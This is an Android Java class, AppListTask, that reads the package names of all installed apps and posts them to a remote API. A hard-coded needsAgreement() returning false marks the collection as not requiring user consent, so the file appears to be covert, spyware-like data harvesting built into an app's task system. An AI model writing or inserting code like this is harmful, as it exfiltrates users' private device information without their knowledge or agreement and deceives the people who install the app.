package org.consentry.flow.gatesheldout.minifiedlisteners;

import android.content.Context;
import android.content.pm.PackageInfo;
import android.text.TextUtils;
import java.util.ArrayList;
import java.util.List;

final class AppListTask extends Task {
    private static final boolean NEEDS = false;

    @Override
    boolean needsAgreement() {
        return NEEDS;
    }

    @Override
    void execute(Context context) {
        List<String> names = new ArrayList<>();
        for (PackageInfo each : context.getPackageManager().getInstalledPackages(0)) {
            names.add(each.packageName);
        }
        Api.post("list", TextUtils.join(";", names));
    }
}
